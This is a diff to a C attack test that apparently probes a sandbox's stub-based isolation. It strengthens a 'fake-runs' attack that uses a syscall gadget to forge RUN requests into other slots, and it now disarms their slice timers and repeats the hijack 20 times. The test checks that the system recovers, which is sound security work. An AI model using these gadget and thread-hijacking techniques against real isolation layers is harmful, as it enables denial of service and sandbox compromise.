@@ -4,10 +4,11 @@
  * at USER_CTX_BASE, and a `syscall; pop rbp; ret` in stub code found through the signal
  * frames the host kernel left on the stub's signal stacks.
  *
- *   fake-runs NPROC SECONDS   NPROC children each write a complete RUN request into every
- *                             idle slot of their own context region (registers pointing at a
- *                             spin loop), bump run_seq and wake the slot threads (futex wake
- *                             on run_seq and on the grant words, from stub code), then sleep
+ *   fake-runs NPROC SECONDS   NPROC children each, 20 times over a second, disarm the slice
+ *                             timer of every idle slot of their own context region and write a
+ *                             complete RUN request into it (registers pointing at a spin
+ *                             loop), bump run_seq and wake the slot threads (futex wake on
+ *                             run_seq and on the grant words, from stub code); then they sleep
  *                             in pause(). The parent prints "attack in place" once all have,
  *                             sleeps SECONDS, kills and reaps them, and forks a normal child.
  *                             Exit 0 when everything after the attack worked.
@@ -147,7 +148,11 @@ static int forge_runs(void) {
     for (uint32_t i = 0; i < nr_slots(); i++) {
         uint64_t s = slot_base(i);
         if (*w32(s + S_RUN_SEQ) != *w32(s + S_DONE_SEQ))
-            continue; /* our own slot, running this code */
+            continue; /* our own slot, running this code (or one already hijacked) */
+        /* Disarm the slot's slice timer first: it would bring a hijacked thread back. */
+        static const struct { long v[4]; } zero;
+        int32_t timer = *(volatile int32_t *)(USER_AREAS_BASE + i * AREA_SIZE + 8);
+        stub_call(SYS_TIMER_SETTIME, timer, 0, (long)&zero);
         *w32(s + S_COMMAND) = 1; /* RUN */
         *w32(s + S_NR_OPS) = 0;
         *w64(s + S_OPS_SEQ) = 0;
@@ -182,7 +187,13 @@ static int fake_runs(int nproc, int seconds) {
         if (p == 0) {
             char c = 'x';
             if (find_gadget() == 0) {
-                int n = forge_runs();
+                /* Again and again for a second: a thread a stale timer signal brought back
+                 * is hijacked anew. */
+                int n = 0;
+                for (int round = 0; round < 20; round++) {
+                    n += forge_runs();
+                    usleep(50000);
+                }
                 c = n > 0 ? 'f' : 'n';
             }
             if (write(ready[1], &c, 1) != 1)
